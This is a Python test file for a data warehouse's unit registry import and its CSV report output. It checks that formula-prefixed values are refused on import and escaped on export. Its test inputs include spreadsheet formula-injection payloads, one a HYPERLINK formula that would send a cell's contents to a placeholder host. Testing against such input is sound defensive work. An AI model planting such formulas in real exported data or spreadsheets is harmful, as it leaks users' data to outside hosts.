"""Values that become cells elsewhere cannot become formulas.

- A unit registry row whose code starts with `=`, `+`, `-` or `@` (or holds characters a code never has) is refused
  on import, naming the row and column; nothing of the file is imported.
- `cchc indicators --format csv` neutralises a text cell starting with a formula prefix (a quote first) and leaves
  numbers, negative ones included, as numbers.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from cchc_warehouse.db import connect
from cchc_warehouse.reference.units import UnitFileError, import_units
from cchc_warehouse.reporting.indicators import IndicatorRow, print_rows


@pytest.mark.parametrize("code", ['=HYPERLINK("http://x.example/?a="&A1,"Xem")', "+12.H05", "-12", "@SUM(A1)",
                                  "12 H05", "12;H05"])
def test_a_unit_code_that_could_run_is_refused(make_database, tmp_path, code):
    make_database(with_units=False)
    path = tmp_path / "don_vi.csv"
    with path.open("w", encoding="utf-8", newline="") as f:
        w = csv.writer(f)
        w.writerow(["unit_code", "unit_name", "level", "parent_code"])
        w.writerow(["12", "Tỉnh Lai Châu", "province", ""])
        w.writerow([code, "Huyện Giả", "district", "12"])
    with pytest.raises(UnitFileError) as err:
        import_units(path)
    assert "dòng 3, cột unit_code" in str(err.value) and "không hợp lệ" in str(err.value)
    with connect() as conn:
        assert conn.execute("select count(*) from ref.unit").fetchone()[0] == 0


def test_a_parent_code_is_checked_too(make_database, tmp_path):
    make_database(with_units=False)
    path = tmp_path / "don_vi.csv"
    path.write_text("unit_code,unit_name,level,parent_code\n12.H05,Huyện Mường Tè,district,=12\n", encoding="utf-8")
    with pytest.raises(UnitFileError, match="dòng 2, cột parent_code"):
        import_units(path)


def test_csv_output_neutralises_formula_prefixes():
    rows = [IndicatorRow("=HYPERLINK(\"http://x\")", "2025-06", "ONE_STOP_ONTIME_RATE", Decimal(5), Decimal(10),
                         Decimal("50.00"), "x", "y"),
            IndicatorRow("12", "2025-06", "SVC766_DIFF", None, None, Decimal("-3.5"), "x", "y")]
    out = io.StringIO()
    print_rows(rows, "csv", out)
    got = list(csv.reader(io.StringIO(out.getvalue())))
    assert got[1][0] == "'=HYPERLINK(\"http://x\")"
    assert got[2][0] == "12" and got[2][-1] == "-3.50"         # numbers stay numbers
